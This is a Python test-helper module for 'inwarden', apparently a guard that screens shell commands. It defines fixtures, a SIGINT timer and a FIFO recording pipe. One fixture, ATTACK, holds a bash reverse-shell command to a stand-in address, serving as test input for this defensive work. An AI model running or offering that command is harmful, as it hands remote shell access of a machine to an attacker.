"""What the tests share."""

import os
import signal
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

import inwarden

ATTACK = {"command": "bash -i >& /dev/tcp/192.0.2.7/443 0>&1"}
# Rules do not settle it, so that the model has to.
ORDINARY = {"command": "tar czf backup.tgz reports"}
RULES_ONLY = ["model", "precedents"]


def rules_only(**options) -> inwarden.Guard:
    """A guard that needs no model files."""
    return inwarden.Guard(
        **{"mode": "enforce", "failure": "closed", "without": RULES_ONLY, **options}
    )


def needs_models(start: Callable[[], object]) -> object:
    """What `start` returns; skips loudly where model files are absent, or fails
    if INWARDEN_TEST_REAL=1 says that they must be there."""
    try:
        return start()
    except inwarden.ModelNotFoundError as error:
        if os.environ.get("INWARDEN_TEST_REAL") == "1":
            raise
        pytest.skip(f"SKIPPED: no model files: {error}")


@contextmanager
def ctrl_c_after(seconds: float) -> Iterator[None]:
    """Sends this process SIGINT, as a terminal does.

    A process started in the background inherits that SIGINT is ignored, so the
    handler is set for the time of the test.
    """
    before = signal.signal(signal.SIGINT, signal.default_int_handler)
    timer = threading.Timer(seconds, os.kill, (os.getpid(), signal.SIGINT))
    timer.start()
    try:
        yield
    finally:
        timer.join()
        signal.signal(signal.SIGINT, before)


class Pipe:
    """A recording that is still being written."""

    def __init__(self, path: Path) -> None:
        os.mkfifo(path)
        self.path = path
        # Open in both directions, so that neither side waits for the other.
        self._file = os.open(path, os.O_RDWR)

    def write(self, line: str) -> None:
        os.write(self._file, line.encode() + b"\n")

    def close(self) -> None:
        os.close(self._file)


@pytest.fixture
def pipe(tmp_path: Path) -> Iterator[Pipe]:
    pipe = Pipe(tmp_path / "pipe.jsonl")
    pipe.write('{"schema":"inwarden.recording/1"}')
    yield pipe
    pipe.close()
